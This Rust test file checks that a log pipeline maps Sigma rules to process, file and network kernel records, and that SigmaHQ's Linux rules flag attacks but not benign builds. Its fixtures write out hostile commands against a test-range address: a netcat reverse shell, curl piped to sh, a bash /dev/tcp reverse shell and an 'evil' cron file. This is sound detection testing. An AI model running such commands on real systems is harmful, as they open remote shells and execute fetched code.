//! Sigma's `process_creation`, `file_event` and `network_connection` log sources on the process
//! monitor's kernel records (`source/process.rs`): the logsource mapping keeps rules to their
//! category, SigmaHQ's own Linux rules fire on the commands they describe, and none of them
//! fires on a benign busy workload (builds, archives, package installs).

use std::path::{Path, PathBuf};

use ironpost_log_pipeline::rules::{RuleSet, load_dir, load_str};
use ironpost_log_pipeline::source::process::ProcessRecord;
use ironpost_log_pipeline::{FieldSource, ParseContext, parse};

fn sigmahq(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../testdata/sigmahq")
        .join(rel)
}

/// A record from a sample-file line (`@category {json}`).
fn record(line: &str) -> ProcessRecord {
    ProcessRecord::from_sample(line)
        .expect("a process sample line")
        .expect("a valid process sample line")
}

/// Titles of the rules `r` matches, sorted; the prefiltered and exhaustive evaluation agree.
fn titles(set: &RuleSet, r: &dyn FieldSource) -> Vec<String> {
    let (mut fast, mut slow) = (Vec::new(), Vec::new());
    set.matches(r, &mut fast);
    set.matches_exhaustive(r, &mut slow);
    let mut t: Vec<String> = fast.iter().map(|r| r.title.clone()).collect();
    let mut s: Vec<String> = slow.iter().map(|r| r.title.clone()).collect();
    t.sort();
    s.sort();
    assert_eq!(t, s, "prefilter disagrees on {:?}", r.message());
    t
}

#[test]
fn process_categories_see_only_their_records() {
    let exec = record(r#"@process_creation {"Image":"/bin/sh","CommandLine":"sh -c id"}"#);
    let file = record(r#"@file_event {"Image":"/bin/sh","TargetFilename":"/etc/passwd"}"#);
    let conn = record(
        r#"@network_connection {"Image":"/bin/sh","DestinationIp":"198.18.0.9","DestinationPort":4444}"#,
    );
    let ctx = ParseContext::new(1_795_000_000_000_000, 0);
    let syslog = parse(
        b"Nov 20 10:00:00 host1 sh[9]: /bin/sh sh -c id /etc/passwd",
        &ctx,
    );
    let recs: [&dyn FieldSource; 4] = [&exec, &file, &conn, &syslog];
    for (logsource, hits) in [
        (
            "{category: process_creation, product: linux}",
            [true, false, false, false],
        ),
        ("{category: process_creation}", [true, false, false, false]),
        (
            "{category: file_event, product: linux}",
            [false, true, false, false],
        ),
        (
            "{category: network_connection, product: linux}",
            [false, false, true, false],
        ),
        // Rules for Linux log lines never see kernel records.
        ("{product: linux}", [false, false, false, true]),
        (
            "{product: linux, service: syslog}",
            [false, false, false, true],
        ),
    ] {
        let yaml = format!(
            "title: T\nid: ls-p\nlogsource: {logsource}\ndetection:\n    kw:\n        - '/bin/sh'\n    condition: kw\n"
        );
        let loaded = load_str(&yaml, Some(Path::new("ls.yml")));
        assert!(loaded.errors.is_empty(), "{logsource}: {:?}", loaded.errors);
        let set = RuleSet::compile(loaded.rules).expect("compiles");
        let got = recs.map(|r| !titles(&set, r).is_empty());
        assert_eq!(got, hits, "{logsource}");
    }
    for (logsource, want) in [
        (
            "{category: process_creation, product: windows}",
            "a product other than linux",
        ),
        ("{category: file_event, service: auditd}", "a service"),
    ] {
        let yaml = format!(
            "title: T\nid: ls-q\nlogsource: {logsource}\ndetection:\n    kw:\n        - x\n    condition: kw\n"
        );
        let loaded = load_str(&yaml, Some(Path::new("ls.yml")));
        let [err] = loaded.errors.as_slice() else {
            panic!("{logsource}: {:?}", loaded.rules)
        };
        assert!(
            err.is_unsupported() && err.to_string().contains(want),
            "{err}"
        );
    }
}

/// The Sigma field names of the three categories, as SigmaHQ writes them, on a record.
#[test]
fn sigma_field_names_read_the_record() {
    let yaml = r#"
title: All fields
id: fields-1
logsource: {category: process_creation, product: linux}
detection:
    sel:
        Image|endswith: '/bash'
        CommandLine|contains: '-i'
        ParentImage: '/usr/sbin/nginx'
        ParentCommandLine|startswith: 'nginx: worker'
        User: 'www-data'
        CurrentDirectory: '/var/www'
        ProcessId: 4242
        ParentProcessId: 17
        container_name: 'web'
        container_image|startswith: 'nginx:'
    condition: sel
"#;
    let loaded = load_str(yaml, Some(Path::new("f.yml")));
    assert!(loaded.errors.is_empty(), "{:?}", loaded.errors);
    let set = RuleSet::compile(loaded.rules).expect("compiles");
    let line = r#"@process_creation {"Image":"/bin/bash","CommandLine":"bash -i","ParentImage":"/usr/sbin/nginx","ParentCommandLine":"nginx: worker process","User":"www-data","CurrentDirectory":"/var/www","ProcessId":4242,"ParentProcessId":17,"container_name":"web","container_id":"0123456789ab","container_image":"nginx:1.25"}"#;
    assert_eq!(titles(&set, &record(line)), ["All fields"]);
    let other_user = line.replace("www-data", "root");
    assert!(titles(&set, &record(&other_user)).is_empty());
}

/// SigmaHQ's own Linux rules on kernel records: they fire on the commands they describe, and
/// none fires on a benign busy workload.
#[test]
fn sigmahq_process_rules_fire_on_attacks_and_not_on_builds() {
    let loaded = load_dir(&sigmahq("rules/linux"));
    let set = RuleSet::compile(loaded.rules).expect("the loaded SigmaHQ rules compile");
    for (line, rule) in [
        (
            r#"@process_creation {"Image":"/usr/bin/nc","CommandLine":"nc 198.18.0.9 4444 -e /bin/sh"}"#,
            "Potential Netcat Reverse Shell Execution",
        ),
        (
            r#"@process_creation {"Image":"/usr/bin/whoami","CommandLine":"whoami","ParentImage":"/usr/sbin/nginx"}"#,
            "Linux Webshell Indicators",
        ),
        (
            r#"@process_creation {"Image":"/bin/sh","CommandLine":"sh -c curl -s http://198.18.0.9/x | sh"}"#,
            "Linux Shell Pipe to Shell",
        ),
        (
            r#"@network_connection {"Image":"/bin/bash","DestinationIp":"198.18.0.9","DestinationPort":4444}"#,
            "Linux Reverse Shell Indicator",
        ),
        (
            r#"@file_event {"Image":"/usr/bin/crontab","TargetFilename":"/etc/cron.d/evil"}"#,
            "New Cron File Created",
        ),
    ] {
        let got = titles(&set, &record(line));
        assert!(
            got.iter().any(|t| t == rule),
            "{rule} not in {got:?} for {line}"
        );
    }
    let benign = [
        r#"@process_creation {"Image":"/usr/bin/make","CommandLine":"make -j2","ParentImage":"/bin/bash","CurrentDirectory":"/home/dev/src"}"#,
        r#"@process_creation {"Image":"/usr/bin/cc","CommandLine":"cc -O2 -c main.c -o main.o","ParentImage":"/usr/bin/make"}"#,
        r#"@process_creation {"Image":"/usr/bin/ld","CommandLine":"ld -o app main.o util.o -lc","ParentImage":"/usr/bin/cc"}"#,
        r#"@process_creation {"Image":"/bin/tar","CommandLine":"tar -czf /tmp/build/out.tar.gz dist","ParentImage":"/usr/bin/make"}"#,
        r#"@process_creation {"Image":"/usr/bin/dpkg","CommandLine":"/usr/bin/dpkg --status-fd 35 --configure libfoo:amd64","ParentImage":"/usr/bin/apt-get"}"#,
        r#"@process_creation {"Image":"/usr/bin/cargo","CommandLine":"cargo build --release","ParentImage":"/bin/bash"}"#,
        r#"@file_event {"Image":"/usr/bin/dpkg","TargetFilename":"/var/lib/dpkg/status-new"}"#,
        r#"@file_event {"Image":"/usr/bin/tar","TargetFilename":"/tmp/build/dist/app"}"#,
        r#"@network_connection {"Image":"/usr/bin/apt-get","DestinationIp":"198.18.0.10","DestinationPort":443}"#,
        r#"@network_connection {"Image":"/usr/bin/git","DestinationIp":"198.18.0.11","DestinationPort":22}"#,
    ];
    for line in benign {
        let got = titles(&set, &record(line));
        assert!(got.is_empty(), "{got:?} on a benign {line}");
    }
}

/// Dedup of a rule without `group_by` is per actor (container or host): one container's alert
/// never suppresses another's, and the same container is not alerted twice within the window.
#[test]
fn dedup_is_per_container() {
    use std::sync::Arc;

    use ironpost_log_pipeline::rules::{Alerter, AlertingConfig, SystemClock};

    let loaded = load_str(
        "title: Rev\nid: rev-1\nlevel: critical\nlogsource: {category: process_creation, product: linux}\ndetection:\n    sel:\n        CommandLine|contains: '/dev/tcp/'\n    condition: sel\n",
        Some(Path::new("rev.yml")),
    );
    let set = RuleSet::compile(loaded.rules).expect("compiles");
    let rule = set.rules()[0].clone();
    let mut alerter = Alerter::in_memory(AlertingConfig::default(), Arc::new(SystemClock));
    let now = chrono::Utc::now().timestamp_micros();
    let rec = |id: Option<&str>| {
        let container = id.map_or(String::new(), |id| format!(",\"container_id\":\"{id}\""));
        let mut r = record(&format!(
            r#"@process_creation {{"Image":"/bin/sh","CommandLine":"sh -c sh -i >& /dev/tcp/198.18.0.9/4444 0>&1"{container}}}"#
        ));
        r.timestamp_micros = now;
        r
    };
    assert!(alerter.observe(&rule, &rec(Some("aaaa"))).is_some());
    assert!(alerter.observe(&rule, &rec(Some("aaaa"))).is_none());
    assert!(alerter.observe(&rule, &rec(Some("bbbb"))).is_some());
    assert!(alerter.observe(&rule, &rec(None)).is_some());
    assert!(alerter.observe(&rule, &rec(None)).is_none());
}
